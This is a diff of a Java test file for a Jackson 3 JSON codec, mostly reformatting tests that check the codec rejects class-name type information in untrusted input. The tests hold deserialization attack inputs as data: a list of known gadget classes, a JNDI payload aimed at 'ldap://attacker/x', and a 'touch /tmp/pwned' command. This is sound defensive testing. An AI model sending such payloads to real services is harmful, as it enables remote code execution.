@@ -67,13 +67,19 @@ class Jackson3CodecTest {
     }
 
     /** A payload whose field takes class names from the body ({@code @JsonTypeInfo(use = CLASS)}). */
-    public record ClassTagged(@JsonTypeInfo(use = JsonTypeInfo.Id.CLASS, property = "@class") Step step) {}
+    public record ClassTagged(
+            @JsonTypeInfo(use = JsonTypeInfo.Id.CLASS, property = "@class")
+            Step step) {}
 
     /** The same with the abbreviated class names of {@code MINIMAL_CLASS}. */
-    public record MinimalClassTagged(@JsonTypeInfo(use = JsonTypeInfo.Id.MINIMAL_CLASS, property = "@c") Step step) {}
+    public record MinimalClassTagged(
+            @JsonTypeInfo(use = JsonTypeInfo.Id.MINIMAL_CLASS, property = "@c")
+            Step step) {}
 
     /** A class-name property on {@code Object}, the widest door. */
-    public record ObjectClassTagged(@JsonTypeInfo(use = JsonTypeInfo.Id.CLASS, property = "@class") Object data) {}
+    public record ObjectClassTagged(
+            @JsonTypeInfo(use = JsonTypeInfo.Id.CLASS, property = "@class")
+            Object data) {}
 
     /** A payload with untyped fields, which default typing would fill with any class named in the body. */
     public record Untyped(String name, Object data, Step step) {}
@@ -117,7 +123,9 @@ class Jackson3CodecTest {
     }
 
     private static ObjectMapper trustingMapper() {
-        return JsonMapper.builder().activateDefaultTyping(ALLOW_EVERY_CLASS, DefaultTyping.NON_FINAL).build();
+        return JsonMapper.builder()
+                .activateDefaultTyping(ALLOW_EVERY_CLASS, DefaultTyping.NON_FINAL)
+                .build();
     }
 
     @Test
@@ -136,7 +144,8 @@ class Jackson3CodecTest {
     @Test
     void roundTrip_genericTypeReference_keepsTheElementType() {
         Jackson3Codec<List<Order>> codec = Jackson3Codec.of(new JsonMapper(), new TypeReference<List<Order>>() {});
-        List<Order> orders = List.of(new Order("a", Instant.EPOCH, List.of()), new Order("b", Instant.EPOCH, List.of("x")));
+        List<Order> orders =
+                List.of(new Order("a", Instant.EPOCH, List.of()), new Order("b", Instant.EPOCH, List.of("x")));
 
         List<Order> decoded = codec.decode(codec.encode(orders));
 
@@ -148,8 +157,8 @@ class Jackson3CodecTest {
     @Test
     void roundTrip_javaType_keepsTheValueType() {
         ObjectMapper mapper = new JsonMapper();
-        Jackson3Codec<Map<String, Order>> codec =
-                Jackson3Codec.of(mapper, mapper.getTypeFactory().constructMapType(Map.class, String.class, Order.class));
+        Jackson3Codec<Map<String, Order>> codec = Jackson3Codec.of(
+                mapper, mapper.getTypeFactory().constructMapType(Map.class, String.class, Order.class));
         Map<String, Order> orders = Map.of("a", new Order("a", Instant.EPOCH, List.of("x")));
 
         Map<String, Order> decoded = codec.decode(codec.encode(orders));
@@ -198,11 +207,20 @@ class Jackson3CodecTest {
     @Test
     void of_nullArguments_throwNullPointerException() {
         ObjectMapper mapper = new JsonMapper();
-        assertThatNullPointerException().isThrownBy(() -> Jackson3Codec.of((Class<?>) null)).withMessage("type");
-        assertThatNullPointerException().isThrownBy(() -> Jackson3Codec.of(null, Order.class)).withMessage("mapper");
-        assertThatNullPointerException().isThrownBy(() -> Jackson3Codec.of(mapper, (Class<?>) null)).withMessage("type");
-        assertThatNullPointerException().isThrownBy(() -> Jackson3Codec.of(mapper, (TypeReference<?>) null)).withMessage("type");
-        assertThatNullPointerException().isThrownBy(() -> Jackson3Codec.of(null, new TypeReference<List<Order>>() {}))
+        assertThatNullPointerException()
+                .isThrownBy(() -> Jackson3Codec.of((Class<?>) null))
+                .withMessage("type");
+        assertThatNullPointerException()
+                .isThrownBy(() -> Jackson3Codec.of(null, Order.class))
+                .withMessage("mapper");
+        assertThatNullPointerException()
+                .isThrownBy(() -> Jackson3Codec.of(mapper, (Class<?>) null))
+                .withMessage("type");
+        assertThatNullPointerException()
+                .isThrownBy(() -> Jackson3Codec.of(mapper, (TypeReference<?>) null))
+                .withMessage("type");
+        assertThatNullPointerException()
+                .isThrownBy(() -> Jackson3Codec.of(null, new TypeReference<List<Order>>() {}))
                 .withMessage("mapper");
     }
 
@@ -253,18 +271,20 @@ class Jackson3CodecTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {
-        "java.util.concurrent.atomic.AtomicReference",
-        "io.queuekit.jackson3.Jackson3CodecTest$Gadget",
-        "com.sun.rowset.JdbcRowSetImpl",
-        "org.springframework.context.support.ClassPathXmlApplicationContext",
-        "ch.qos.logback.core.db.DriverManagerConnectionSource",
-        "com.zaxxer.hikari.HikariConfig",
-        "java.lang.ProcessBuilder",
-        "javax.script.ScriptEngineManager"
-    })
+    @ValueSource(
+            strings = {
+                "java.util.concurrent.atomic.AtomicReference",
+                "io.queuekit.jackson3.Jackson3CodecTest$Gadget",
+                "com.sun.rowset.JdbcRowSetImpl",
+                "org.springframework.context.support.ClassPathXmlApplicationContext",
+                "ch.qos.logback.core.db.DriverManagerConnectionSource",
+                "com.zaxxer.hikari.HikariConfig",
+                "java.lang.ProcessBuilder",
+                "javax.script.ScriptEngineManager"
+            })
     void decode_classNameTypeInfo_isRefused_evenWhenTheCallersMapperAllowsEveryClass(String className) {
-        ObjectMapper permissive = JsonMapper.builder().polymorphicTypeValidator(ALLOW_EVERY_CLASS).build();
+        ObjectMapper permissive =
+                JsonMapper.builder().polymorphicTypeValidator(ALLOW_EVERY_CLASS).build();
         String body = "{\"data\":{\"@class\":\"" + className + "\",\"dataSourceName\":\"ldap://attacker/x\"}}";
         String harmless = "{\"data\":{\"@class\":\"" + AtomicReference.class.getName() + "\"}}";
         assertThat(permissive.readValue(harmless, ObjectClassTagged.class).data())
@@ -295,7 +315,9 @@ class Jackson3CodecTest {
                 .hasMessageContaining(Untyped.class.getName());
         String onlyObject = "{\"name\":\"n\",\"data\":[\"" + GADGET + "\",{\"command\":\"touch /tmp/pwned\"}]}";
         Untyped decoded = codec.decode(utf8(onlyObject));
-        assertThat(decoded.data()).as("the class name is data").isEqualTo(List.of(GADGET, Map.of("command", "touch /tmp/pwned")));
+        assertThat(decoded.data())
+                .as("the class name is data")
+                .isEqualTo(List.of(GADGET, Map.of("command", "touch /tmp/pwned")));
         assertThat(Gadget.CREATED).as("gadgets instantiated").hasValue(0);
         assertThat(Gadget.COMMANDS).hasValue(0);
     }
@@ -307,16 +329,23 @@ class Jackson3CodecTest {
 
         Jackson3Codec.of(trusting, Untyped.class);
 
-        assertThat(trusting.deserializationConfig().getDefaultTyper(null)).as("default typing, still the caller's choice").isNotNull();
+        assertThat(trusting.deserializationConfig().getDefaultTyper(null))
+                .as("default typing, still the caller's choice")
+                .isNotNull();
         assertThat(trusting.serializationConfig().getDefaultTyper(null)).isNotNull();
-        assertThat(trusting.deserializationConfig().getPolymorphicTypeValidator()).isSameAs(before);
+        assertThat(trusting.deserializationConfig().getPolymorphicTypeValidator())
+                .isSameAs(before);
         trusting.readValue(DEFAULT_TYPING_ATTACK, Untyped.class);
-        assertThat(Gadget.CREATED).as("the caller's mapper still trusts type information").hasPositiveValue();
+        assertThat(Gadget.CREATED)
+                .as("the caller's mapper still trusts type information")
+                .hasPositiveValue();
     }
 
     @Test
     void of_callersMapper_keepsItsOtherSettings() {
-        ObjectMapper snakeCase = JsonMapper.builder().propertyNamingStrategy(PropertyNamingStrategies.SNAKE_CASE).build();
+        ObjectMapper snakeCase = JsonMapper.builder()
+                .propertyNamingStrategy(PropertyNamingStrategies.SNAKE_CASE)
+                .build();
         Jackson3Codec<Order> codec = Jackson3Codec.of(snakeCase, Order.class);
         Order order = new Order("o-1", Instant.EPOCH, List.of("tea"));
 
@@ -332,7 +361,8 @@ class Jackson3CodecTest {
 
         assertThat(codec.decode(utf8("{\"type\":\"circle\",\"radius\":2.0}"))).isEqualTo(new Circle(2.0));
         assertThat(codec.decode(utf8("{\"type\":\"square\",\"side\":3.0}"))).isEqualTo(new Square(3.0));
-        assertThat(new String(codec.encode(new Circle(1.0)), StandardCharsets.UTF_8)).contains("\"type\":\"circle\"");
+        assertThat(new String(codec.encode(new Circle(1.0)), StandardCharsets.UTF_8))
+                .contains("\"type\":\"circle\"");
         assertThat(codec.decode(codec.encode(new Square(1.5)))).isEqualTo(new Square(1.5));
     }
 
